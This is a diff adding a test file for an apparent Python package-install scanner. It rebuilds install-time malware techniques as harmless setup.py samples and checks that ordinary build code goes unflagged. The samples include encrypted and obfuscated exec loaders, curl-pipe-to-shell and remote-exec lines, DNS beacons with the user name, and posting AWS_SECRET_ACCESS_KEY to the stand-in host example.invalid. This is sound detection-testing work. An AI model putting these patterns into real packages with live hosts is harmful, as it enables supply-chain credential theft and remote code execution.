@@ -1,0 +1,269 @@
+"""Install-time techniques of real malware, each rebuilt as a minimal harmless sample, and the
+ordinary build code they must not be confused with.
+
+Nothing here is real malware: payloads are `print`s or `echo`s, hosts are `example.invalid`,
+blobs are encodings of harmless text. Each hostile setup.py first writes a canary (hostile.py):
+no scan ever runs it.
+"""
+
+from __future__ import annotations
+
+import base64
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+
+from safepip.checks.hooks.rules import RULES
+from safepip.checks.install_hooks import scan_path
+from safepip.findings import Finding, Severity
+from tests.checks.hostile import make_sdist, setup_py
+
+_HARMLESS = base64.b64encode(b"print('hello')").decode()
+_HARMLESS_COMMAND = base64.b64encode(b"echo hello").decode()
+_RUN_DECODED = f"import os, base64\nos.system(base64.b64decode('{_HARMLESS_COMMAND}'))\n"
+
+
+@dataclass(frozen=True)
+class Technique:
+    """One technique: a setup.py body (and other files of the sdist) and the least severity
+    the scan must reach."""
+
+    name: str
+    body: str
+    minimum: Severity = Severity.HIGH
+    files: dict[str, str] = field(default_factory=dict)
+
+
+TECHNIQUES = (
+    Technique(
+        "fernet-decrypt-exec",
+        "from cryptography.fernet import Fernet\n"
+        "exec(Fernet(b'a2V5').decrypt(b'gAAAAAB-not-a-token'))\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "cipher-decrypt-exec",
+        "from Crypto.Cipher import AES\n"
+        "code = AES.new(b'k' * 16, AES.MODE_ECB).decrypt(b'0' * 16)\nexec(code)\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "xor-loop-exec",
+        "blob = b'\\x01\\x02\\x03'\nexec(bytes(b ^ 42 for b in blob))\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "decoder-helper-to-os-system",
+        "import os, base64\n"
+        "def d(s):\n    return base64.b64decode(s).decode()\n"
+        f"os.system(d('{_HARMLESS_COMMAND}'))\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "chr-lambda-to-os-system",
+        "import os\nf = lambda xs: ''.join(chr(x) for x in xs)\n"
+        "os.system(f([101, 99, 104, 111]))\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "decoded-literal-written-then-started",
+        "import base64, subprocess\n"
+        f"open('t.pyw', 'wb').write(base64.b64decode('{_HARMLESS}'))\n"
+        "subprocess.Popen('python t.pyw', shell=True)\n",
+    ),
+    Technique(
+        "download-write-start-across-helpers",
+        "import subprocess, tempfile\nfrom urllib.request import urlopen\n"
+        "def fetch(url):\n    return urlopen(url).read()\n"
+        "def drop(path):\n"
+        "    with open(path, 'wb') as out:\n"
+        "        out.write(fetch('https://example.invalid/a.bin'))\n"
+        "    subprocess.Popen([path])\n"
+        "drop(tempfile.gettempdir() + '/a.bin')\n",
+    ),
+    Technique(
+        "host-identity-and-network-in-helpers",
+        "import getpass, urllib.request\n"
+        "def who():\n    return getpass.getuser()\n"
+        "def ping(text):\n    urllib.request.urlopen('https://example.invalid/?q=' + text)\n"
+        "name = who()\nping(name)\n",
+    ),
+    Technique(
+        "dns-lookup-of-host-data",
+        "import socket, getpass\n"
+        "socket.gethostbyname(f'{getpass.getuser()}.example.invalid')\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "dns-lookup-of-computed-name",
+        "import socket, sys\nlabel = sys.argv[0].encode().hex()\n"
+        "socket.gethostbyname(label + '.example.invalid')\n",
+    ),
+    Technique(
+        "command-assembled-in-f-string",
+        "import os\nurl = 'https://example.invalid/i.sh'\ncmd = f'curl -s {url} | sh'\n"
+        "os.system(cmd)\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "python-c-from-setup",
+        "import subprocess, sys\n"
+        "subprocess.run([sys.executable, '-c', 'import urllib.request as u; "
+        "exec(u.urlopen(\"https://example.invalid\").read())'])\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "git-clone-second-stage",
+        "import subprocess\n"
+        "subprocess.call(['git', 'clone', 'https://example.invalid/stage2.git', '/tmp/s2'])\n",
+    ),
+    Technique(
+        "payload-module-called-by-setup",
+        "from helper import go\ngo()\n",
+        Severity.CRITICAL,
+        {"helper.py": "def go():\n" + "".join(f"    {ln}\n" for ln in _RUN_DECODED.splitlines())},
+    ),
+    Technique(
+        "relative-import-in-own-package",
+        "import demo\n",
+        Severity.CRITICAL,
+        {
+            "demo/__init__.py": "from .core import VERSION\n",
+            "demo/core.py": "VERSION = '1'\n" + _RUN_DECODED,
+        },
+    ),
+    Technique(
+        "sys-path-edit-then-import",
+        "import sys, os\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'tools'))\n"
+        "import buildhelp\n",
+        Severity.CRITICAL,
+        {"tools/buildhelp.py": f"import base64\nexec(base64.b64decode('{_HARMLESS}'))\n"},
+    ),
+    Technique(
+        "python-m-own-module",
+        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'demo.post'])\n",
+        Severity.CRITICAL,
+        {
+            "demo/__init__.py": "",
+            "demo/post.py": f"import base64\nexec(base64.b64decode('{_HARMLESS}'))\n",
+        },
+    ),
+    Technique("startfile", "import os\nos.startfile('readme.txt')\n"),
+    Technique(
+        "script-host-launcher",
+        "import subprocess\nsubprocess.Popen('start /b helper.vbs', shell=True)\n",
+    ),
+    Technique(
+        "scheduled-task",
+        "import subprocess\nsubprocess.call(['schtasks', '/create', '/tn', 'x', '/tr', 'y'])\n",
+    ),
+    Technique(
+        "program-from-temp-folder",
+        "import os, subprocess, tempfile\n"
+        "exe = os.path.join(tempfile.gettempdir(), 'u.exe')\nsubprocess.Popen([exe])\n",
+    ),
+    Technique(
+        "secret-env-variable-sent",
+        "import os, requests\n"
+        "requests.post('https://example.invalid', data=os.environ.get('AWS_SECRET_ACCESS_KEY'))\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "host-data-through-self-attribute",
+        "import getpass, urllib.request\n"
+        "class Beacon:\n"
+        "    def __init__(self):\n        self.user = getpass.getuser()\n"
+        "    def send(self):\n"
+        "        urllib.request.urlopen('https://example.invalid/' + self.user)\n"
+        "Beacon().send()\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "exec-of-literal-code-that-fetches-and-runs",
+        "exec('import os\\nos.system(\"curl -s https://example.invalid/i | sh\")')\n",
+        Severity.CRITICAL,
+    ),
+)
+
+ORDINARY = (
+    Technique(
+        "compiler-probe-in-temp-folder",
+        "import os, subprocess, tempfile\n"
+        "tmp = tempfile.mkdtemp()\nsrc = os.path.join(tmp, 'probe.c')\n"
+        "with open(src, 'w') as out:\n    out.write('int main(void) { return 0; }')\n"
+        "subprocess.check_call(['cc', src, '-o', os.path.join(tmp, 'probe')])\n",
+    ),
+    Technique(
+        "readme-and-version-file",
+        "import os\nhere = os.path.dirname(__file__)\n"
+        "long_description = open(os.path.join(here, 'README.md')).read()\n"
+        "about = {}\nexec(open(os.path.join(here, 'demo', '__about__.py')).read(), about)\n",
+    ),
+    Technique(
+        "git-describe-and-pkg-config",
+        "import subprocess\n"
+        "version = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()\n"
+        "flags = subprocess.check_output(['pkg-config', '--cflags', 'zlib']).split()\n",
+    ),
+    Technique(
+        "cythonize-and-cython-module",
+        "import subprocess, sys\nfrom Cython.Build import cythonize\n"
+        "ext_modules = cythonize('demo/*.pyx')\n"
+        "subprocess.check_call([sys.executable, '-m', 'cython', 'demo/fast.pyx'])\n",
+    ),
+    Technique(
+        "configure-and-make-of-the-tree",
+        "import os, subprocess\n"
+        "subprocess.check_call(['sh', './configure', '--prefix=' + os.getcwd()])\n"
+        "subprocess.check_call(['make', '-C', 'vendor'], env=dict(os.environ, CFLAGS='-O2'))\n",
+    ),
+    Technique(
+        "numpy-style-build-tool-with-env",
+        "import os, subprocess, sys\n"
+        "cc = os.environ.get('CC', 'cc')\n"
+        "subprocess.check_call([cc, '-shared', 'demo/x.c', '-o', 'build/x.so'])\n"
+        "subprocess.check_call([sys.executable, 'tools/generate.py'])\n",
+        files={"tools/generate.py": "open('demo/gen.py', 'w').write('X = 1')\n"},
+    ),
+    Technique(
+        "package-helpers-not-called-on-import",
+        "from demo import __version__\n",
+        files={
+            "demo/__init__.py": "import os, subprocess\n__version__ = '1.0'\n"
+            "def show(path):\n    os.startfile(path)\n"
+            "def fetch(url):\n    subprocess.call(['git', 'clone', url])\n",
+        },
+    ),
+)
+
+
+def _scan(technique: Technique, tmp_path: Path) -> list[Finding]:
+    files = {"setup.py": setup_py(technique.body, tmp_path / "canary"), **technique.files}
+    return scan_path(make_sdist(tmp_path, "demo", "1.0", files))
+
+
+@pytest.mark.parametrize("technique", TECHNIQUES, ids=lambda t: t.name)
+def test_technique_is_blocked(technique: Technique, tmp_path: Path) -> None:
+    findings = _scan(technique, tmp_path)
+    worst = max((f.severity for f in findings), default=Severity.INFO)
+    assert worst >= technique.minimum, findings
+    assert not (tmp_path / "canary").exists()
+
+
+@pytest.mark.parametrize("technique", ORDINARY, ids=lambda t: t.name)
+def test_ordinary_build_code_is_not_flagged(technique: Technique, tmp_path: Path) -> None:
+    findings = _scan(technique, tmp_path)
+    assert all(f.severity < Severity.MEDIUM for f in findings), findings
+
+
+def test_every_python_rule_names_what_the_prefilter_needs() -> None:
+    from safepip.checks.hooks.prefilter import NEEDS
+
+    for rule in RULES.values():
+        if rule.python:
+            assert rule.needs, f"{rule.id} has no prefilter needs"
+        else:
+            assert not rule.reaches_low_at_import_time()
+        for alternative in rule.needs:
+            assert alternative and alternative <= set(NEEDS), (rule.id, alternative)
